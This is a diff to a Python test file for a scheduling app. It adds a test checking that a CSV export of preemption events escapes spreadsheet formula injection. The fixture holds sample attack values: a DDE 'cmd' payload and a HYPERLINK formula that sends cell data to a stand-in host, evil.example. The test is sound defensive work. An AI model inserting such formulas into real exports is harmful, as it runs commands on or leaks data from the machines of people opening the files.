@@ -1,3 +1,5 @@
+import csv
+import io
 from html import escape
 from http import HTTPStatus
 
@@ -150,3 +152,21 @@ def test_config_pages_refused_for_non_staff(lead_client):
     assert lead_client.get(CONFIG_URL).status_code == HTTPStatus.FORBIDDEN
     url = reverse("scheduling:config_activate", args=[config.pk])
     assert lead_client.post(url).status_code == HTTPStatus.FORBIDDEN
+
+
+def test_csv_export_cells_never_start_a_formula(staff_client, nlp_queue):
+    """Free text reaches the export (the sentence, the node and task names as the cluster
+    reported them): a spreadsheet must show it, not evaluate it."""
+    PreemptionEventFactory(
+        victim_job=JobFactory(queue=nlp_queue, name="victim"),
+        victim_task_name="@SUM(1+1)",
+        node_name="+cmd|' /C calc'!A0",
+        sentence='=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    )
+    response = staff_client.get(reverse("scheduling:preemption_csv"))
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    event = dict(zip(rows[0], rows[1], strict=True))
+    assert event["victim_task"] == "'@SUM(1+1)"
+    assert event["node"] == "'+cmd|' /C calc'!A0"
+    assert event["sentence"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    assert event["gpus_freed"].isdigit()
